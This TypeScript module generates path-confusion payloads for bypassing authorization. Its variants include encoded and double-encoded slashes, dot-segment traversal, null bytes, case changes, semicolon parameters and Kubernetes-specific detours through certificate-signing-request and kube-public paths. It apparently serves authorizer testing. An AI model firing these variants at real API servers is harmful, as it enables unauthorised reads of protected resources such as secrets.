/**
 * Other ways to spell one API path, as an attacker tries them against a server whose authorizer
 * and router might read a URL differently: encoded and double-encoded separators, dot segments
 * (plain and encoded), doubled and trailing slashes, encoded letters, `;` parameters, query
 * strings, case changes, and detours through paths a credential may read. Every spelling is a raw
 * request target: send it with --path-as-is semantics (Node's http.request `path`), never through
 * a URL object that would normalise it.
 */

const hex = (c: string): string => `%${c.charCodeAt(0).toString(16).toUpperCase().padStart(2, '0')}`;
const encodeAll = (s: string): string => [...s].map(hex).join('');

/** PURE. Distinct raw spellings of `/` + segments.join('/') (the canonical one first). */
export function pathSpellings(segments: readonly string[]): string[] {
  const canonical = `/${segments.join('/')}`;
  const out = new Set<string>([canonical]);
  const add = (s: string) => out.add(s);
  const n = segments.length;
  const joinAt = (i: number, sep: string) => `/${segments.slice(0, i).join('/')}${sep}${segments.slice(i).join('/')}`;
  for (let i = 1; i < n; i++) {
    // a separator that is not one, once or twice encoded, either case
    for (const sep of ['%2F', '%2f', '%252F', '%252f', '%5C', '\\', '%2F%2F']) add(joinAt(i, sep));
    // dot segments, plain and encoded, and doubled slashes
    for (const dot of ['/./', '/%2e/', '/%2E/', `/${segments[i - 1]}/../`, '/x/../', '/x/%2e%2e/', '/x/.%2e/', '/x/%2E%2E/', '/x/..%2F', '//', '/x%2F..%2F', '///'])
      add(joinAt(i, dot));
  }
  segments.forEach((seg, i) => {
    const with_ = (s: string) => `/${[...segments.slice(0, i), s, ...segments.slice(i + 1)].join('/')}`;
    add(with_(`${hex(seg[0] ?? 'x')}${seg.slice(1)}`)); // %73ecrets
    add(with_(encodeAll(seg)));
    add(with_(`${seg};x=1`));
    add(with_(`${seg}%3Bx`));
    add(with_(seg.toUpperCase()));
    add(with_(`${seg[0]?.toUpperCase() ?? ''}${seg.slice(1)}`));
    add(with_(`${seg}%00`));
    add(with_(`${seg}%20`));
    add(with_(`${seg}%252e`));
  });
  for (const tail of ['/', '//', '/.', '/%2e', '/..', '/%2e%2e', ';', ';/', '%2F', '%23', '#', '?', '?watch=0', '?watch=false&watch=true', '?x=/../../', '?fieldSelector=metadata.name%3Dtop', '%3Fx=1']) add(canonical + tail);
  for (const head of ['/', '/.', '/x/..', '/%2e', '/api/..', '/version/..', '/apis/certificates.k8s.io/v1/certificatesigningrequests/../../../..'])
    add(head + canonical);
  add(`/apis/certificates.k8s.io/v1/certificatesigningrequests/${['..', '..', '..', '..', ...segments].join('%2F')}`);
  add(`/apis/certificates.k8s.io/v1/certificatesigningrequests/x%2F..%2F..%2F..%2F..%2F..${canonical.replace(/\//g, '%2F')}`);
  add(`/api/v1/namespaces/kube-public/configmaps/cluster-info/..${canonical}`);
  return [...out];
}
